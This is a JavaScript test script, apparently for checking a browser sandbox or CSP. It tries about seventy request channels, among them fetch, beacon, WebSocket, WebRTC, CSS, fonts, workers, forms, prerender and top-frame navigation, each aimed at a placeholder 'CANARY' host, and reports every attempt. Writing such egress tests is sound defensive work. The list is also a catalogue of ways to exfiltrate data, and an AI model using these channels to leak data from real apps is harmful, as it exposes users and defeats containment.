// Ways in which an app could tell somebody what it knows. Each asks the canary for a path of
// its own. What navigates comes last, since it ends the frame.
const canary = 'CANARY'
const socket = canary.replace('http', 'ws')
const html = text => document.body.insertAdjacentHTML('beforeend', text)
const head = (name, attributes) => {
  const e = document.createElement(name)
  for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value)
  document.head.append(e)
  return e
}
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
const nativeFetch = () => {
  const frame = document.createElement('iframe')
  document.body.append(frame)
  return frame.contentWindow.fetch(canary + '/nativefetch', { mode: 'no-cors' })
}
const rtcCode = `const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:STUN'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))`
const rtcFrame = () => `<iframe srcdoc="<script>${rtcCode}</` + 'script>"></iframe>'
const attempts = {
  fetch: () => fetch(canary + '/fetch', { mode: 'no-cors' }),
  nativefetch: nativeFetch,
  prototypefetch: () => Object.getPrototypeOf(window).fetch?.call(window, canary + '/prototypefetch'),
  keepalive: () => fetch(canary + '/keepalive', { method: 'POST', keepalive: true, body: 'x' }),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', canary + '/xhr'); x.send() },
  beacon: () => navigator.sendBeacon(canary + '/beacon', 'x'),
  websocket: () => new WebSocket(socket + '/websocket'),
  eventsource: () => new EventSource(canary + '/eventsource'),
  webtransport: () => new WebTransport(canary.replace('http:', 'https:') + '/webtransport'),
  rtc: () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); p.createDataChannel('x'); return p.createOffer().then(o => p.setLocalDescription(o)) },
  framedrtc: () => html(rtcFrame()),
  shadowrtc: () => { const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = rtcFrame() },
  writtenrtc: () => document.write(`<div><template shadowrootmode="closed">${rtcFrame()}</template></div>`),
  unsafertc: () => document.body.setHTMLUnsafe(`<div><template shadowrootmode="closed">${rtcFrame()}</template></div>`),
  javascriptrtc: () => html(`<iframe src="javascript:${rtcCode}"></iframe>`),
  image: () => { new Image().src = canary + '/image' },
  srcset: () => html(`<img srcset="${canary}/srcset 1x"><picture><source srcset="${canary}/picture"><img></picture>`),
  lazy: () => html(`<img loading="lazy" src="${canary}/lazy">`),
  imageset: () => html(`<div style="background: image-set(url(${canary}/imageset) 1x); width: 9px; height: 9px"></div>`),
  inlinestyle: () => html(`<p style="background: url(${canary}/inlinestyle)">x</p>`),
  script: () => head('script', { src: canary + '/script' }),
  modulescript: () => head('script', { type: 'module', src: canary + '/modulescript' }),
  dynamicimport: () => import(canary + '/dynamicimport'),
  importmap: () => { head('script', { type: 'importmap' }).textContent = JSON.stringify({ imports: { far: canary + '/importmap' } }); return import(String('far')) },
  stylesheet: () => head('link', { rel: 'stylesheet', href: canary + '/stylesheet' }),
  cssimport: () => html(`<style>@import "${canary}/cssimport";</style>`),
  font: () => html(`<style>@font-face { font-family: q; src: url(${canary}/font) } p { font-family: q }</style><p>x</p>`),
  fontface: () => new FontFace('r', `url(${canary}/fontface)`).load(),
  cursor: () => html(`<style>* { cursor: url(${canary}/cursor), auto }</style>`),
  prefetch: () => head('link', { rel: 'prefetch', href: canary + '/prefetch' }),
  preload: () => head('link', { rel: 'preload', as: 'image', href: canary + '/preload' }),
  modulepreload: () => head('link', { rel: 'modulepreload', href: canary + '/modulepreload' }),
  prerender: () => head('link', { rel: 'prerender', href: canary + '/prerender' }),
  preconnect: () => head('link', { rel: 'preconnect', href: canary + '/' }),
  icon: () => head('link', { rel: 'icon', href: canary + '/icon' }),
  manifest: () => head('link', { rel: 'manifest', href: canary + '/manifest' }),
  speculation: () => { head('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [canary + '/speculation'] }], prerender: [{ source: 'list', urls: [canary + '/prerendering'] }] }) },
  video: () => html(`<video autoplay src="${canary}/video" poster="${canary}/poster"></video>`),
  audio: () => new Audio(canary + '/audio').play(),
  track: () => html(`<video src="data:video/mp4,"><track default src="${canary}/track"></video>`),
  object: () => html(`<object data="${canary}/object"></object><embed src="${canary}/embed">`),
  svg: () => html(`<svg><image href="${canary}/svgimage"/><use href="${canary}/svguse#a"/><filter><feImage href="${canary}/feimage"/></filter></svg>`),
  mathml: () => html(`<math><mtext href="${canary}/mathml">x</mtext></math>`),
  iframe: () => html(`<iframe src="${canary}/iframe"></iframe>`),
  srcdoc: () => html(`<iframe srcdoc="<img src=${canary}/srcdocimage><script src=${canary}/srcdocscript></script><meta http-equiv=refresh content=0;url=${canary}/srcdocrefresh>"></iframe>`),
  blobframe: () => { const f = document.createElement('iframe'); f.src = blob(`<img src=${canary}/blobframe>`, 'text/html'); document.body.append(f) },
  dataframe: () => html(`<iframe src="data:text/html,<img src=${canary}/dataframe>"></iframe>`),
  nestednavigation: () => { const f = document.createElement('iframe'); f.srcdoc = `<script>location = '${canary}/nestednavigation'</` + 'script>'; document.body.append(f) },
  worker: () => new Worker(blob(`try { importScripts('${canary}/importscripts') } catch {}; fetch('${canary}/workerfetch', { mode: 'no-cors' }).catch(() => {}); try { new WebSocket('${socket}/workersocket') } catch {}; import('${canary}/workerimport').catch(() => {})`)),
  sharedworker: () => new SharedWorker(blob(`fetch('${canary}/sharedworker')`)),
  serviceworker: () => navigator.serviceWorker.register(canary + '/serviceworker'),
  worklet: () => new AudioContext().audioWorklet.addModule(canary + '/worklet'),
  paintworklet: () => CSS.paintWorklet.addModule(canary + '/paintworklet'),
  xslt: () => html(`<?xml-stylesheet href="${canary}/xslt"?>`),
  form: () => { html(`<form action="${canary}/form" target="zz"><input name="a"></form><iframe name="zz"></iframe>`); HTMLFormElement.prototype.submit.call(document.forms[0]); document.forms[0].requestSubmit() },
  formaction: () => { html(`<form><button id="fa" formaction="${canary}/formaction" formtarget="_blank"></button></form>`); document.getElementById('fa').click() },
  ping: () => { html(`<a id="pp" href="#x" ping="${canary}/ping">x</a>`); document.getElementById('pp').click() },
  download: () => { html(`<a id="dd" href="${canary}/download" download>x</a>`); document.getElementById('dd').click() },
  newwindow: () => window.open(canary + '/newwindow'),
  blanklink: () => { html(`<a id="bb" target="_blank" href="${canary}/blanklink">x</a>`); document.getElementById('bb').click() },
  payment: () => new PaymentRequest([{ supportedMethods: canary + '/payment' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
  credential: () => navigator.credentials.get({ identity: { providers: [{ configURL: canary + '/credential', clientId: 'x' }] } }),
  csp: () => head('meta', { 'http-equiv': 'Content-Security-Policy', content: `default-src *; report-uri ${canary}/report` }),
  accept: () => head('meta', { 'http-equiv': 'Accept-CH', content: 'DPR' }),
  basetag: () => { head('base', { href: canary + '/' }); new Image().src = 'basetag' },
}
const later = {
  refresh: () => head('meta', { 'http-equiv': 'refresh', content: `0; url=${canary}/refresh` }),
  top: () => { top.location = canary + '/top' },
  parent: () => { parent.location = canary + '/parent' },
  toplink: () => { html(`<a id="tt" target="_top" href="${canary}/toplink">x</a>`); document.getElementById('tt').click() },
  self: () => { location = canary + '/self' },
}
const attempt = async (name, run) => {
  try {
    await Promise.race([run(), new Promise(resolve => setTimeout(resolve, 500))])
  } catch {
    // refused, as it should be
  }
  top.postMessage('tried ' + name, '*')
}
await Promise.all(Object.entries(attempts).map(([name, run]) => attempt(name, run)))
await new Promise(resolve => setTimeout(resolve, 300))
for (const [name, run] of Object.entries(later)) await attempt(name, run)
